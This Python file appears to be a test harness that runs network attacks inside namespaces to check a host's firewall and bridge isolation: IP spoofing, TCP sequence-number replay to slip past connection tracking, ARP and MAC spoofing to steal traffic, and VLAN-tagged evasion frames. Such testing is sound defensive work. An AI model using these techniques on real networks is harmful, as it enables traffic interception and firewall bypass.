"""What attacks in the namespaces of a test: `forge.py attack SECONDS`, attacks in and their results out as JSON.

A flow attack has a forger and a friend, who may be the same. The forger sends a packet from the victim to the friend,
under the victim's address. If the host forwards it, then what the friend sends back is an answer for the firewall, and
the friend may talk to the victim. A theft makes the host or a neighbor send to the thief what is meant for the victim.
All attacks run side by side, each until it succeeds, or until the time is up.

`forge.py serve NETNS NAME ADDRESS:PORT` is a victim: it answers a request with NAME CALLER, over HTTP and udp.
"""

import json
import random
import select
import socket
import struct
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from itertools import cycle

from peer import inside, make_socket

SYN, RST, PUSH, ACK = 0x02, 0x04, 0x08, 0x10
IP, ARP = 0x0800, 0x0806
NUMBERS = {"tcp": socket.IPPROTO_TCP, "udp": socket.IPPROTO_UDP}
REQUEST = b"GET / HTTP/1.0\r\n\r\n"
BROADCAST = b"\xff" * 6
# How long to wait for one packet: most tries are quick, and some leave a loaded machine its time.
PATIENCE = (*(0.005,) * 40, *(0.05,) * 6, 1.0)


@dataclass(frozen=True)
class Packet:
    """A tcp or udp packet over IPv4."""

    protocol: str
    source: tuple[str, int]
    to: tuple[str, int]
    data: bytes = b""
    flags: int = 0
    number: int = 0
    acknowledged: int = 0

    def encode(self):
        ends = socket.inet_aton(self.source[0]) + socket.inet_aton(self.to[0])
        ports = struct.pack("!HH", self.source[1], self.to[1])
        if self.protocol == "udp":
            payload = ports + struct.pack("!HH", 8 + len(self.data), 0) + self.data
        else:
            numbers = struct.pack("!II", self.number % 2**32, self.acknowledged % 2**32)
            rest = [ports, numbers, struct.pack("!BBH", 0x50, self.flags, 0xFFFF), b"\0\0", b"\0\0", self.data]
            pseudo = ends + struct.pack("!HH", NUMBERS["tcp"], 20 + len(self.data))
            rest[3] = checksum(pseudo + b"".join(rest))
            payload = b"".join(rest)
        identity = random.getrandbits(16)
        length = 20 + len(payload)
        header = struct.pack("!BBHHHBB", 0x45, 0, length, identity, 0, 64, NUMBERS[self.protocol])
        return header + checksum(header + ends) + ends + payload

    @classmethod
    def decode(cls, raw):
        """The packet, or None if it is not one."""
        protocol = next((name for name, number in NUMBERS.items() if raw[9:10] == bytes([number])), None)
        start = (raw[0] & 15) * 4
        body = raw[start : int.from_bytes(raw[2:4], "big")]
        if protocol is None or len(body) < (20 if protocol == "tcp" else 8):
            return None
        ports = struct.unpack("!HH", body[:4])
        source, to = (socket.inet_ntoa(raw[12:16]), ports[0]), (socket.inet_ntoa(raw[16:20]), ports[1])
        if protocol == "udp":
            return cls(protocol, source, to, body[8:])
        number, acknowledged, offset, flags = struct.unpack("!IIBB", body[4:14])
        return cls(protocol, source, to, body[(offset >> 4) * 4 :], flags, number, acknowledged)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def arp(kind, mac, address, asked):
    """An ARP request (1) or answer (2) of an address that has a MAC, about another one or, unasked, about itself."""
    header = struct.pack("!HHBBH", 1, IP, 6, 4, kind)
    return header + mac + socket.inet_aton(address) + b"\0" * 6 + socket.inet_aton(asked)


def octets(mac):
    return bytes.fromhex(mac.replace(":", ""))


def packet_socket(netns, device):
    with inside(netns):
        wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**20)
    wire.bind((device, IP))
    return wire


class Wire:
    """Where an attacker sends and listens: eth0 of a namespace, whose gateway is a device of the host.

    With a neighbor's MAC, packets go to that neighbor and not to the gateway. A tagged frame says that it belongs to
    VLAN 0, that is to none: the receiver takes it like any other, but its type is not that of IP or ARP.
    """

    def __init__(self, netns, gateway_device, tagged=False, neighbor=""):
        self.tag = struct.pack("!HH", 0x8100, 0) if tagged else b""
        self.socket = packet_socket(netns, "eth0")
        self.mac = self.socket.getsockname()[4]
        with packet_socket("", gateway_device) as gateway:
            self.gateway_mac = octets(neighbor) or gateway.getsockname()[4]

    def send(self, packet, mac=""):
        """Send a packet to the gateway, from a MAC that may be another's."""
        self.frame(self.gateway_mac, octets(mac) or self.mac, IP, packet.encode())

    def frame(self, to, source, kind, payload):
        self.socket.send(to + source + self.tag + struct.pack("!H", kind) + payload)

    def receive(self, seconds, protocol, wanted):
        """The first packet of that protocol to come in that is wanted, or None if none comes in time."""
        deadline = time.monotonic() + seconds
        while select.select([self.socket], [], [], max(0, deadline - time.monotonic()))[0]:
            raw, sender = self.socket.recvfrom(2048)
            packet = Packet.decode(raw[14:]) if sender[2] != socket.PACKET_OUTGOING else None
            if packet and packet.protocol == protocol and wanted(packet):
                return packet
        return None


class Flow:
    """A flow that the victim seems to begin: `to` is where the forger sends, `friend` is who gets it there."""

    def __init__(self, protocol, victim, forger, to, friend, address, gateway, ports, mac=""):
        self.mac = mac
        self.protocol, self.victim, self.to, self.address = protocol, tuple(victim), to, address
        self.forger, self.friend = Wire(*forger), Wire(*friend)
        self.gateway, self.ports = gateway, cycle(range(*ports))

    def attempt(self, patience):
        """What the victim answered, or None."""
        return Attempt(self, next(self.ports), patience).run()


class Attempt:
    """One try, on a port of its own: what an earlier one left in the kernel does not disturb it."""

    def __init__(self, flow, port, patience):
        self.flow, self.port, self.patience = flow, port, patience

    def run(self):
        return self.tcp() if self.flow.protocol == "tcp" else self.udp()

    def forge(self, **fields):
        """Send a packet under the victim's address."""
        packet = Packet(self.flow.protocol, self.flow.victim, (self.flow.to, self.port), **fields)
        self.flow.forger.send(packet, self.flow.mac)
        if self.flow.mac:
            # The bridge now looks for the victim here. When the victim is asked for its MAC, it is found again.
            asked = arp(1, self.flow.forger.mac, self.flow.address, self.flow.victim[0])
            self.flow.forger.frame(BROADCAST, self.flow.forger.mac, ARP, asked)

    def answer(self, to, **fields):
        """Send what the firewall takes for an answer to the victim."""
        self.flow.friend.send(Packet(self.flow.protocol, (self.flow.address, self.port), to, **fields))

    def receive(self, wanted):
        here = self.port
        return self.flow.friend.receive(self.patience, self.flow.protocol, lambda p: p.to[1] == here and wanted(p))

    def seen_as(self, opening):
        """Under which address and port the friend sees the victim. If nothing came, it guesses."""
        return opening.source if opening else (self.flow.gateway, self.flow.victim[1])

    def udp(self):
        self.forge(data=b"opening")
        victim = self.seen_as(self.receive(lambda p: p.data == b"opening"))
        self.answer(victim, data=REQUEST)
        said = self.receive(lambda p: p.source == victim and p.data.startswith(b"HTTP/"))
        return text(said)

    def tcp(self):
        """Learn the number that the victim begins with, make the host forget the flow, open it with that number.

        With any other number the victim's own packets are not within the window that the host expects. Those above
        it are dropped, and those below it pass but count for nothing.
        """
        false = random.getrandbits(32)
        self.forge(flags=SYN, number=false)
        victim = self.seen_as(self.receive(lambda p: p.flags == SYN))
        mine = random.getrandbits(32)
        self.answer(victim, flags=SYN, number=mine)
        accepted = self.receive(lambda p: p.flags == SYN | ACK and p.source == victim)
        if accepted is None:
            return None
        self.forge(flags=RST | ACK, number=false + 1, acknowledged=mine + 1)
        self.forge(flags=SYN, number=accepted.number)
        if self.receive(lambda p: p.flags == SYN and p.number == accepted.number) is None:
            return None
        self.answer(victim, flags=SYN, number=mine)
        if self.receive(lambda p: p.flags == SYN | ACK and p.number == accepted.number) is None:
            return None
        rest = {"number": mine + 1, "acknowledged": accepted.number + 1}
        self.answer(victim, flags=ACK | PUSH, data=REQUEST, **rest)
        said = self.receive(lambda p: p.source == victim and bool(p.data))
        self.answer(victim, flags=RST, number=mine + 1 + len(REQUEST))
        return text(said)


class Theft:
    """The thief says that the victim's address, or the victim's MAC, is at its own port of the bridge.

    Then `asks`, a namespace, sends something to the address and udp port that are `asked`.
    """

    def __init__(self, by, thief, victim, mac, asks, asked):
        self.by, self.victim, self.mac = by, victim, octets(mac)
        self.thief, self.asker, self.asked = Wire(*thief), make_socket(asks, "udp"), tuple(asked)

    def attempt(self, patience):
        """What the thief saw, or None."""
        question = b"secret %x" % random.getrandbits(32)
        if self.by == "mac":
            self.thief.frame(self.thief.gateway_mac, self.mac, 0x88B5, b"the victim is here")
        else:
            for kind in (1, 2):
                self.thief.frame(BROADCAST, self.thief.mac, ARP, arp(kind, self.thief.mac, self.victim, self.victim))
        self.asker.sendto(question, self.asked)
        stolen = self.thief.receive(patience, "udp", lambda p: p.data == question)
        return stolen and stolen.to[0]


def text(said):
    return said and said.data.decode().rsplit("\r\n", 1)[-1]


def attack(seconds):
    """Run the attacks, each until it succeeds; print what came of each, and how often it was tried."""
    kinds = {"flow": Flow, "theft": Theft}
    attacks = {name: kinds[kind](**rest) for name, (kind, rest) in json.load(sys.stdin).items()}
    deadline = time.monotonic() + float(seconds)

    def one(chosen):
        for tries, patience in enumerate(cycle(PATIENCE), 1):
            said = chosen.attempt(patience)
            if said is not None or time.monotonic() > deadline:
                return said, tries
        return None

    with ThreadPoolExecutor(max_workers=len(attacks)) as pool:
        print(json.dumps(dict(zip(attacks, pool.map(one, attacks.values()), strict=True))))


def serve(netns, name, *places):
    """Answer each request with NAME CALLER; over tcp only when the whole of it has come."""

    def answer(caller):
        return f"HTTP/1.0 200 OK\r\n\r\n{name} {caller[0]}".encode()

    def tcp(server):
        while True:
            connection, caller = server.accept()
            threading.Thread(target=one, args=(connection, caller), daemon=True).start()

    def one(connection, caller):
        with connection:
            request = b""
            try:
                while REQUEST not in request and (more := connection.recv(100)):
                    request += more
                if REQUEST in request:
                    connection.sendall(answer(caller))
            except OSError:
                pass  # An attacker has reset it.

    def udp(server):
        while True:
            request, caller = server.recvfrom(100)
            if request == REQUEST:
                server.sendto(answer(caller), caller)

    for place in places:
        address, port = place.rsplit(":", 1)
        with inside(netns):
            connections = socket.create_server((address, int(port)), backlog=100)
            datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.bind((address, int(port)))
        threading.Thread(target=tcp, args=(connections,)).start()
        threading.Thread(target=udp, args=(datagrams,)).start()
    print("ready", flush=True)


if __name__ == "__main__":
    {"attack": attack, "serve": serve}[sys.argv[1]](*sys.argv[2:])
